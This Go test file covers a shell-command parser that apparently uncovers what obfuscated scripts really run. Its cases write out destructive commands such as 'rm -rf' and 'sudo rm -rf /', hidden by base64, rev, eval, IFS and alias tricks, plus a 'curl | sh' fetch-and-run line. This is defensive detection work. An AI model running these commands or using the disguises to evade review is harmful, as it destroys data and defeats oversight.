package parse

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// testKnowledge is a small stand-in for the rule files' command
// knowledge: parse itself knows no command by name.
type testKnowledge map[string]*Carrier

func (k testKnowledge) Carrier(name string) *Carrier { return k[name] }

func (k testKnowledge) EnvCode(name string) EnvCode {
	switch name {
	case "GIT_EDITOR":
		return EnvScript
	case "BASH_ENV":
		return EnvFile
	}
	return EnvData
}

func (k testKnowledge) Stream(name string) *Stream {
	switch name {
	case "echo":
		return &Stream{Filter: FilterEcho}
	case "printf":
		return &Stream{Filter: FilterPrintf}
	case "base64":
		return &Stream{Filter: FilterBase64, When: []string{"-d", "--decode"}}
	case "cat":
		return &Stream{Filter: FilterCat}
	case "rev":
		return &Stream{Filter: FilterRev}
	case "pwd":
		return &Stream{Filter: FilterPwd}
	case "dirname":
		return &Stream{Filter: FilterDirname}
	}
	return nil
}

var knowledge = testKnowledge{
	"bash":    {Kind: CarryShell},
	"sh":      {Kind: CarryShell},
	"eval":    {Kind: CarryEval},
	"source":  {Kind: CarrySource},
	".":       {Kind: CarrySource},
	"sudo":    {Kind: CarryExec, Privileged: true, ValueOptions: []string{"-u"}},
	"env":     {Kind: CarryExec, Assigns: true, ValueOptions: []string{"-C", "-S", "-u"}, DirOptions: []string{"-C"}, SplitOptions: []string{"-S"}},
	"timeout": {Kind: CarryExec, Skip: 1, ValueOptions: []string{"-s", "-k"}},
	"xargs":   {Kind: CarryExec, StdinArgs: true, ValueOptions: []string{"-I", "-n"}},
	"find":    {Kind: CarryFind, ExecFlags: []string{"-exec", "-execdir"}},
	"python3": {Kind: CarryInterp, CodeFlags: []string{"-c"}, Translations: []Translation{
		{Pattern: regexp.MustCompile(`shutil\.rmtree\(['"]([^'"]+)['"]`), Argv: []string{"rm", "-rf", "$1"}},
		{Pattern: regexp.MustCompile(`os\.system\(['"]([^'"]+)['"]`), Shell: "$1"},
	}},
	"git": {ValueOptions: []string{"-c", "-C"}, OptionCode: []Translation{
		{Options: []string{"-c"}, Pattern: regexp.MustCompile(`^alias\.[^=]+=!(.+)$`), Shell: "$1"},
	}},
}

// shellCall decodes a nested shell's argv for tests: -c SCRIPT [$0 [$1...]],
// a script file, or standard input.
func shellCall(argv []string) (ShellCall, error) {
	call := ShellCall{Dialect: Bash, Arg0: argv[0]}
	for i := 1; i < len(argv); i++ {
		switch a := argv[i]; {
		case a == "-c" || strings.HasPrefix(a, "-") && strings.HasSuffix(a, "c") && len(a) > 2:
			if i+1 < len(argv) {
				call.Script, call.HasScript = argv[i+1], true
				if i+2 < len(argv) {
					call.Arg0, call.Params = argv[i+2], argv[i+3:]
				}
			}
			return call, nil
		case strings.HasPrefix(a, "-"):
		default:
			call.File, call.Params = a, argv[i+1:]
			return call, nil
		}
	}
	call.Stdin = true
	return call, nil
}

func testConfig(dir string) *Config {
	return &Config{
		Dialect:   Bash,
		Env:       []string{"HOME=/home/dev", "PATH=/usr/bin:/bin", "TMPDIR=/tmp"},
		Dir:       dir,
		Knowledge: knowledge,
		Shell:     shellCall,
	}
}

// render shows the commands of a result one per line: the line, then
// "<-" and the carriers, then "!code" for unknown code.
func render(res *Result) string {
	var lines []string
	for _, c := range res.Commands {
		s := c.Line()
		if len(c.Via) > 0 {
			s += " <- " + strings.Join(c.Via, " | ")
		}
		if c.Privileged {
			s += " !priv"
		}
		if c.UnknownCode {
			s += " !code"
		}
		for _, r := range c.Redirs {
			s += fmt.Sprintf(" >%d:%s", r.Op, r.Target.String())
		}
		lines = append(lines, s)
	}
	for _, p := range res.Problems {
		lines = append(lines, fmt.Sprintf("problem %d: %s", p.Kind, p.Msg))
	}
	return strings.Join(lines, "\n")
}

// parseDir makes TestParse's directory: a script file and a
// subdirectory.
func parseDir(t *testing.T) string {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "run.sh"), []byte("#!/bin/sh\nrm -rf \"$1\"\n"), 0o755)
	os.Mkdir(filepath.Join(dir, "sub"), 0o755)
	return dir
}

func TestParse(t *testing.T) {
	dir := parseDir(t)
	for _, tt := range parseCases {
		t.Run(tt.name, func(t *testing.T) {
			got := render(Parse(tt.script, testConfig(dir)))
			if got != tt.want {
				t.Errorf("script %q\ngot:\n%s\nwant:\n%s", tt.script, got, tt.want)
			}
		})
	}
}

// parseCases are TestParse's scripts (in parseDir), and how each is
// rendered.
var parseCases = []struct {
	name, script, want string
}{
	{"simple", "ls -la", "ls -la"},
	{"list-and-pipe", "a && b || c; d | e", "a\nb\nc\nd\ne"},
	{"quotes-joined", `r''m -r"f" '/x'`, "rm -rf /x"},
	{"ansi-c", `$'\x72\x6d' -rf /x`, "rm -rf /x"},
	{"ifs", `rm${IFS}-rf${IFS}/x`, "rm -rf /x"},
	{"braces", `{rm,-rf,/x}`, "rm -rf /x"},
	{"tilde", `rm -rf ~/x`, "rm -rf /home/dev/x"},
	{"unset-is-empty", `rm -rf "$OUTPUT/root"`, "rm -rf /root"},
	{"default", `rm -rf "${OUT:-/tmp}/x"`, "rm -rf /tmp/x"},
	{"abort-colon-question", "rm -rf \"${OUT:?}/x\"\nrm y", "problem 1: the shell stops here: OUT: parameter null or not set; nothing after it runs"},
	{"set-u-aborts", "set -u\necho $NOPE\nrm y", "set -u\nproblem 1: the shell stops here: NOPE: unbound variable; nothing after it runs"},
	{"variables", `X=rm; Y=/x; $X -rf $Y`, "rm -rf /x"},
	{"array", `a=(rm -rf /x); "${a[@]}"`, "rm -rf /x"},
	{"cmdsubst-known", `$(echo rm) -rf /x`, "echo rm <- $(...)\nrm -rf /x"},
	{"cmdsubst-unknown", `rm -rf "$(ls)"`, "ls <- $(...)\nrm -rf ?"},
	{"random-unknown", `rm -rf /tmp/$RANDOM`, "rm -rf /tmp/?"},
	{"cd-tracked", "cd sub && touch f", "cd sub\ntouch f"},
	{"nested-bash", `bash -c "sh -c 'rm -rf /x'"`, "bash -c sh -c 'rm -rf /x'\nsh -c rm -rf /x <- bash -c\nrm -rf /x <- bash -c | sh -c"},
	{"positional", `sh -c 'rm -rf "$1"' sh /x`, "sh -c rm -rf \"$1\" sh /x\nrm -rf /x <- sh -c"},
	{"eval", `eval "rm -rf /x"`, "eval rm -rf /x\nrm -rf /x <- eval"},
	{"eval-unknown", `eval "$(cat f)"`, "cat f <- $(...)\neval ? !code"},
	{"base64-pipe", `echo cm0gLXJmIC94 | base64 -d | sh`, "echo cm0gLXJmIC94\nbase64 -d\nsh\nrm -rf /x <- sh <stdin"},
	{"rev-pipe", `echo 'x/ fr- mr' | rev | bash`, "echo x/ fr- mr\nrev\nbash\nrm -rf /x <- bash <stdin"},
	{"curl-pipe-unknown", `curl -s https://x | sh`, "curl -s https://x\nsh !code"},
	{"heredoc-sh", "sh <<EOF\nrm -rf /x\nEOF", "sh\nrm -rf /x <- sh <stdin"},
	{"herestring", `bash <<< 'rm -rf /x'`, "bash\nrm -rf /x <- bash <stdin"},
	{"procsubst-source", `source <(echo 'rm -rf /x')`, "echo rm -rf /x <- <(...)\nsource /dev/fd/63\nrm -rf /x <- source /dev/fd/63"},
	{"sudo", `sudo -u root rm -rf /x`, "sudo -u root rm -rf /x\nrm -rf /x <- sudo !priv"},
	{"env-assign-chdir", `env -C /tmp A=1 rm -rf x`, "env -C /tmp A=1 rm -rf x\nrm -rf x <- env"},
	{"env-split", `env -S 'rm -rf /x'`, "env -S rm -rf /x\nrm -rf /x <- env"},
	{"timeout", `timeout -s 9 5 rm -rf /x`, "timeout -s 9 5 rm -rf /x\nrm -rf /x <- timeout"},
	{"xargs-known", `echo /x | xargs rm -rf`, "echo /x\nxargs rm -rf\nrm -rf /x <- xargs"},
	{"xargs-unknown", `ls | xargs rm`, "ls\nxargs rm\nrm ? <- xargs"},
	{"find-exec", `find . -name '*.o' -exec rm {} +`, "find . -name *.o -exec rm {} +\nrm ? <- find -exec"},
	{"function", `f() { rm -rf "$1"; }; f /x`, "f /x\nrm -rf /x <- f()"},
	{"alias", "shopt -s expand_aliases\nalias x='rm -rf'\nx /x", "shopt -s expand_aliases\nalias x=rm -rf\nx /x\nrm -rf /x <- alias x"},
	{"alias-not-expanded-in-bash-scripts", "alias x='rm -rf'\nx /x", "alias x=rm -rf\nx /x"},
	{"false-and", "false && rm -rf /x; true || rm -rf /y", "false\ntrue"},
	{"for-loop", `for d in /a /b; do rm -rf "$d"; done`, "rm -rf /a\nrm -rf /b"},
	{"script-file", `bash run.sh /x`, "bash run.sh /x\nrm -rf /x <- bash run.sh"},
	{"script-by-path", `./run.sh /x`, "./run.sh /x\nrm -rf /x <- script ./run.sh"},
	{"written-then-run", "echo 'rm -rf /x' > t.sh; sh t.sh", "echo rm -rf /x >1:t.sh\nsh t.sh\nrm -rf /x <- sh t.sh"},
	{"python", `python3 -c "import shutil; shutil.rmtree('/x')"`, "python3 -c import shutil; shutil.rmtree('/x')\nrm -rf /x <- python3"},
	{"python-system", `python3 -c "import os; os.system('rm -rf /x')"`, "python3 -c import os; os.system('rm -rf /x')\nrm -rf /x <- python3"},
	{"git-alias", `git -c 'alias.x=!rm -rf /x' x`, "git -c alias.x=!rm -rf /x x\nrm -rf /x <- git -c"},
	{"redirects", `echo a > out.txt 2>&1 < in.txt`, "echo a >1:out.txt >0:in.txt"},
	{"env-code", `GIT_EDITOR='rm -rf /x' git commit`, "GIT_EDITOR=rm -rf /x\nrm -rf /x <- $GIT_EDITOR\ngit commit"},
	{"exit-in-branch-goes-on", "[ -n \"$1\" ] && exit 0; rm -rf /x", "[ -n  ]\nexit 0\nrm -rf /x"},
	{"known-test-skips-branch", "[ -n \"$X\" ] && rm -rf \"$X/root\"; [ -z \"$X\" ] || rm /a; [ \"$X\" = y ] && rm /b; rm /c", "[ -n  ]\n[ -z  ]\n[  = y ]\nrm /c"},
	{"known-test-takes-branch", "[ -z \"$X\" ] && rm /a; [ 1 -eq 2 ] || rm /b; if [[ $X == y* ]]; then rm /c; elif [ -n x ]; then rm /d; else rm /e; fi", "[ -z  ]\nrm /a\n[ 1 -eq 2 ]\nrm /b\n[ -n x ]\nrm /d"},
	{"unknown-test-both", "[ -n \"$BASH_VERSION\" ] || rm /a; [ -n \"$(cat f)\" ] && rm /b; [ -n \"$1\" ] || rm /c", "[ -n ? ]\nrm /a\ncat f <- $(...)\n[ -n ? ]\nrm /b\n[ -n  ]\nrm /c"},
	{"exit-in-if-goes-on", "if false; then exit; fi; rm -rf /x", "false\nexit\nrm -rf /x"},
	{"exit-in-pipe-goes-on", "exit | cat; rm -rf /x", "exit\ncat\nrm -rf /x"},
	{"return-in-function", "f() { return; rm /a; }; f; rm /b", "f\nreturn <- f()\nrm /b"},
	{"bare-exec-goes-on", "exec 2>/dev/null; rm -rf /x", "exec >1:/dev/null\nrm -rf /x"},
	{"cd-in-branch-unknown", "if true; then cd /; fi; rm -rf ./x", "true\ncd /\nrm -rf ./x"},
	{"echo-e-escapes", `echo -e '\x72m -rf /x' | bash`, "echo -e \\x72m -rf /x\nbash\nrm -rf /x <- bash <stdin"},
	{"exit-stops", "exit 0\nrm -rf /x", "exit 0"},
	{"syntax-error-runs-before", "rm a\nif then", "rm a\nproblem 0: bash does not parse: `if` must be followed by a statement list"},
	{"scary-words-are-data", `grep -rn "rm -rf /" .`, "grep -rn rm -rf / ."},
}

func TestCallerDataIsNotUnknownCode(t *testing.T) {
	res := Parse(`snap=$(cat <&3) && eval -- "$snap"; eval "$1"`, &Config{Dialect: Bash, Knowledge: knowledge, Shell: shellCall, Params: []string{"ls"}})
	for _, c := range res.Commands {
		if c.UnknownCode {
			t.Errorf("%q marked as running unknown code", c.Line())
		}
	}
	if got := render(res); !strings.Contains(got, "ls <- eval") {
		t.Errorf("the payload $1 was not followed:\n%s", got)
	}
}

func TestExec(t *testing.T) {
	got := render(Exec([]string{"sudo", "rm", "-rf", "/"}, testConfig("/")))
	if want := "sudo rm -rf /\nrm -rf / <- sudo !priv"; got != want {
		t.Errorf("got:\n%s\nwant:\n%s", got, want)
	}
}

func FuzzParse(f *testing.F) {
	for _, s := range []string{"ls", `eval "$(echo rm)"`, "sh <<EOF\nx\nEOF", `a=(1 2); "${a[@]}"`, `f() { f; }; f`, `echo cm0= | base64 -d | sh`, `find . -exec sh -c 'x {}' \;`, "alias a=a\na",
		// package expand panics on an operator it does not know
		"echo ${x@Q0000}", "cat <<EOF\n${x@Q0}\nEOF", "x=${y@Zz}"} {
		f.Add(s)
	}
	for _, s := range budgetAttacks {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, script string) {
		Parse(script, testConfig(t.TempDir()))
	})
}

func TestCdInBranchLeavesDirUnknown(t *testing.T) {
	res := Parse("if true; then cd /; fi; rm -rf ./x", testConfig(t.TempDir()))
	last := res.Commands[len(res.Commands)-1]
	if last.Dir != "" {
		t.Errorf("dir after a cd in a branch = %q, want unknown", last.Dir)
	}
}

func TestFanOutIsBounded(t *testing.T) {
	res := Parse("f(){ f;f;f;f;f;f;f;f;f;f; }; f; rm -rf /x", testConfig(t.TempDir()))
	if n := DefaultBudget.Commands; len(res.Commands) > n+1 {
		t.Errorf("%d commands followed, want at most %d", len(res.Commands), n)
	}
	found := false
	for _, p := range res.Problems {
		found = found || p.Kind == ProblemBudget
	}
	if !found {
		t.Error("no problem reported for a script that fans out")
	}
}

func TestBigScriptIsUnknownCode(t *testing.T) {
	dir := t.TempDir()
	big := strings.Repeat("echo padding\n", maxFile/13+1) + "rm -rf /x\n"
	os.WriteFile(filepath.Join(dir, "big.sh"), []byte("#!/bin/sh\n"+big), 0o755)
	for _, script := range []string{"bash big.sh", "./big.sh", "source big.sh"} {
		res := Parse(script, testConfig(dir))
		if !res.Commands[0].UnknownCode {
			t.Errorf("%q: a script larger than the judge reads is not marked unknown", script)
		}
	}
}

func TestCdToMissingDirIsUnknown(t *testing.T) {
	res := Parse("cd no-such-dir; rm -rf *", testConfig(t.TempDir()))
	last := res.Commands[len(res.Commands)-1]
	if last.Dir != "" || last.Args[len(last.Args)-1].IsKnown() {
		t.Errorf("after a cd that fails, dir = %q and the glob = %q; want both unknown", last.Dir, last.Line())
	}
}

// TestExpandPanicIsUnknown: a word package expand panics on (it does not
// know the operator) is unknown to the judge, not a crash.
func TestExpandPanicIsUnknown(t *testing.T) {
	for _, script := range []string{"rm -rf \"${x@Q$00000}\"", "cat <<EOF\n${x@Q$00}\nEOF"} {
		res := Parse(script, testConfig(t.TempDir()))
		if len(res.Commands) == 0 && len(res.Problems) == 0 {
			t.Errorf("%q: neither a command nor a problem: %+v", script, res)
		}
	}
}
